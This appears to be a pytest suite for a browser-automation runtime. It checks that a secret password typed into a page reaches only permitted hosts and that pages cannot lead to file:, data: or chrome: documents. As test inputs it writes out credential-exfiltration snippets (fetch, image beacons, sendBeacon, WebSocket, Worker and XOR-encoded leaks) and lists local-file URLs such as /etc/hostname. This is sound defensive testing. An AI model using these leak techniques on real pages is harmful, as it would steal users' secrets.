"""A routine in a browser: where its secrets go, and which documents it is led to. Real Chromium."""

import json
from typing import Any

import pytest

from routines.check import violations
from routines.result import RoutineResult
from routines.routine import Routine
from runtime.browser.executing import execute as executing
from runtime.browser.executing.execute import execute
from runtime.browser.executing.options import BrowserOptions
from tests.runtime.web import Received, Reply, Web, json_reply, page, redirect

pytestmark = pytest.mark.usefixtures("chromium")

SECRET = "correct horse & 7"
Step = dict[str, Any]
READ: list[Step] = [{"type": "read_page", "save_as": "r"}, {"type": "return_html", "response": "r"}]


async def visit(
    *steps: Step, hosts: list[str], sent_to: list[str] | None = None, secret: str = SECRET
) -> RoutineResult:
    password = {"name": "password", "secret": True, "sent_to": sent_to}
    document = {"name": "r", "hosts": hosts, "parameters": [password], "operations": list(steps)}
    # As one that slipped through every check: the browser itself has to refuse.
    return await execute(
        Routine.model_validate(document), {"password": secret}, options=BrowserOptions(patience=1.0, settling=2.0)
    )


def opened(url: str, **more: Any) -> Step:
    return {"type": "navigate", "url": url, **more}


def typed(selector: str = "#p") -> Step:
    return {"type": "input_text", "selector": selector, "text": "{{password}}"}


def code(body: str) -> Step:
    return {"type": "js_evaluate", "code": f"(() => {{ {body} }})()", "save_as": "v"}


CLICK: Step = {"type": "click", "selector": "#go"}
SLEEP: Step = {"type": "sleep", "seconds": 0.5}


def ok(received: Received) -> Reply:
    return page("<title>other</title><input id=p>")


def leaving(there: str) -> list[str]:
    """Pages of the application that send on what was typed into them."""
    by_script = [
        "fetch('{there}/x', {{method: 'POST', body: p.value}})",
        "fetch('{there}/x', {{method: 'POST', body: btoa('a' + p.value)}})",
        "fetch('{there}/x', {{method: 'POST', body: new Blob([p.value])}})",
        "new Image().src = '{there}/x?' + encodeURIComponent(p.value)",
        "navigator.sendBeacon('{there}/x', p.value)",
        "document.cookie = 'p=' + encodeURIComponent(p.value); location = '{there}/x'",
    ]
    buttons = [f'<input id=p><button id=go onclick="{each.format(there=there)}">go</button>' for each in by_script]
    forms = [
        f"<form action='{there}/x' method={method}><input id=p name=p><button id=go>go</button></form>"
        for method in ("get", "post")
    ]
    return [*forms, *buttons]


@pytest.mark.parametrize("way", range(8))
async def test_what_was_typed_into_a_page_reaches_no_server_but_its_own(way: int) -> None:
    with Web(ok) as other:

        def site(received: Received) -> Reply:
            return page(leaving(other.origin)[way])

        with Web(site) as app:
            hosts = [app.origin, other.origin]
            result = await visit(opened(f"{app.origin}/"), typed(), CLICK, SLEEP, hosts=hosts, sent_to=[app.origin])
            held, other.received[:] = list(other.received), []
            await visit(opened(f"{app.origin}/"), typed(), CLICK, SLEEP, hosts=hosts, sent_to=hosts)
    assert held == []
    told = f"{result.error} {result.notes}"
    assert f"`password` is secret and may be sent to {app.origin} only, not to {other.origin}" in told
    assert SECRET not in told
    assert [received.path for received in other.received] == ["/x"], "where it may be sent, it is"


async def test_a_secret_is_not_typed_into_a_page_of_another_server() -> None:
    with Web(ok) as app, Web(ok) as other:
        hosts = [app.origin, other.origin]
        result = await visit(opened(f"{other.origin}/"), typed(), hosts=hosts, sent_to=[app.origin])
    assert f"operation 2 (input_text) failed: `password` is secret and may be sent to {app.origin} only" in result.error


@pytest.mark.parametrize("kind", ["navigate", "fetch", "download"])
async def test_no_request_of_the_routine_carries_it_elsewhere(kind: str) -> None:
    with Web(ok) as app, Web(ok) as other:
        step = {"type": kind, "url": f"{other.origin}/x", "query": [["q", "{{password}}"]]}
        step |= {"save_as": "f"} if kind == "download" else {}
        result = await visit(step, hosts=[app.origin, other.origin], sent_to=[app.origin], secret="1234")
    assert (result.ok, other.received) == (False, [])


async def test_nor_does_a_redirect_of_a_page() -> None:
    with Web(ok) as other, Web(lambda r: redirect(f"{other.origin}/x?{r.target.partition('?')[2]}")) as app:
        step = opened(f"{app.origin}/", query=[["q", "{{password}}"]])
        result = await visit(step, hosts=[app.origin, other.origin], sent_to=[app.origin])
    assert other.received == []
    assert f"the page led to {other.origin}, but `password` is secret" in result.error


@pytest.mark.parametrize(
    "body",
    [
        "fetch('{there}/x?' + [...p.value].map(c => c.charCodeAt(0) ^ 7).join(), {{mode: 'no-cors'}})",
        "new WebSocket('{there}/x?'.replace('http', 'ws') + [...p.value].map(c => c.charCodeAt(0)).join())",
        "const code = \"onmessage = e => fetch(e.data, {{mode: 'no-cors'}})\";"
        "const w = new Worker(URL.createObjectURL(new Blob([code])));"
        "w.postMessage('{there}/x?' + [...p.value].reverse().join(''))",
    ],
)
async def test_code_of_the_routine_can_write_it_in_no_way_that_gets_out(
    body: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(executing, "refused", lambda operations: "")
    with Web(ok) as app, Web(ok) as other:
        step = code(body.format(there=other.origin))
        hosts = [app.origin, other.origin]
        await visit(opened(f"{app.origin}/"), typed(), step, SLEEP, hosts=hosts, sent_to=[app.origin])
        held, other.received[:] = list(other.received), []
        await visit(opened(f"{app.origin}/"), typed(), step, SLEEP, hosts=hosts, sent_to=hosts)
    assert (held, len(other.received)) == ([], 1)


OTHERS = [
    "file:///etc/hostname",
    "FILE:///etc/hostname",
    "data:text/html,<p>made",
    "javascript:'<p>made'",
    "chrome://version",
    "view-source:{here}/",
    "blob:{here}/x",
    "about:blank",
    "filesystem:{here}/temporary/x",
    "ftp://127.0.0.1/x",
]


@pytest.mark.parametrize("url", OTHERS)
@pytest.mark.parametrize("hosts", [[], ["file://", "data:", "file:///etc/hostname"]])
def test_no_routine_names_an_address_that_is_none_of_a_host(url: str, hosts: list[str]) -> None:
    here = "https://app.example"
    (*_, wrong) = violations({"name": "r", "hosts": [here, *hosts], "operations": [opened(url.format(here=here))]})
    assert "must start with http://" in wrong


@pytest.mark.parametrize("url", [OTHERS[0], OTHERS[2], OTHERS[5]])
async def test_only_pages_of_the_hosts_are_navigated_to(url: str) -> None:
    with Web(ok) as app:
        address, returned = url.format(here=app.origin), {"type": "return_html", "response": "r"}
        take = {"name": "there", "sources": [{"kind": "json", "path": ["url"]}]}
        with Web(lambda r: json_reply(json.dumps({"url": address}))) as told:
            hosts = [app.origin, told.origin, "file://", "data:"]
            given = await visit(opened(address, save_as="r"), returned, hosts=hosts)
            found = {"type": "fetch", "url": f"{told.origin}/", "extract": [take]}
            extracted = await visit(found, opened("{{there}}", save_as="r"), returned, hosts=hosts)
    assert (given.data, extracted.data, app.received) == (None, None, [])
    assert "must start with http://" in given.error
    assert "which is not one of the routine's hosts" in extracted.error


def led(how: str, url: str) -> str:
    return {
        "script": f"<script>location = {url!r}</script>",
        "meta": f'<meta http-equiv=refresh content="0;url={url}">',
        "frame": f'<iframe src="{url}"></iframe>',
        "open": f"<script>open({url!r})</script>",
        "link": f'<a id=a href="{url}">x</a><script>a.click()</script>',
        "tab": f'<a id=a target=_blank href="{url}">x</a><script>a.click()</script>',
        "form": f'<form id=f action="{url}"></form><script>f.submit()</script>',
    }[how]


@pytest.mark.parametrize(
    ("how", "url"),
    [
        *((how, "data:text/html,<p>made") for how in ("script", "meta", "frame", "open", "link", "tab", "form")),
        *((how, "file:///etc/hostname") for how in ("script", "tab")),
    ],
)
async def test_no_page_leads_to_a_document_that_is_none_of_a_host(how: str, url: str) -> None:
    with Web(lambda r: page(f"<p>mine</p>{led(how, url)}")) as app:
        result = await visit(opened(f"{app.origin}/"), SLEEP, *READ, hosts=[app.origin])
    assert "<p>mine</p>" in (result.data if result.ok else "<p>mine</p>")
    assert result.ok or how == "form"


@pytest.mark.parametrize("url", ["file:///etc/hostname", "data:text/html,<p>made", "chrome://version"])
async def test_no_redirect_does(url: str) -> None:
    with Web(lambda r: redirect(url)) as app:
        result = await visit(opened(f"{app.origin}/", save_as="r"), hosts=[app.origin])
    assert not result.ok


MADE = "location = URL.createObjectURL(new Blob(['<p id=go>made up'], {type: 'text/html'}))"


async def test_a_document_that_a_page_has_made_is_neither_read_nor_acted_on(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(executing, "refused", lambda operations: "")
    with Web(lambda r: page("<p>mine" if r.path == "/" else f"<script>{MADE}</script>")) as app:
        for then in (*READ[:1], CLICK, code("return document.body.innerText")):
            result = await visit(opened(f"{app.origin}/"), code(MADE), SLEEP, then, hosts=[app.origin])
            assert "is no page of the routine's hosts" in result.error
        saved = await visit(
            opened(f"{app.origin}/made", save_as="r"), {"type": "return_html", "response": "r"}, hosts=[app.origin]
        )
    assert "<p id=go>made up" not in str(saved.data).replace(MADE, "")
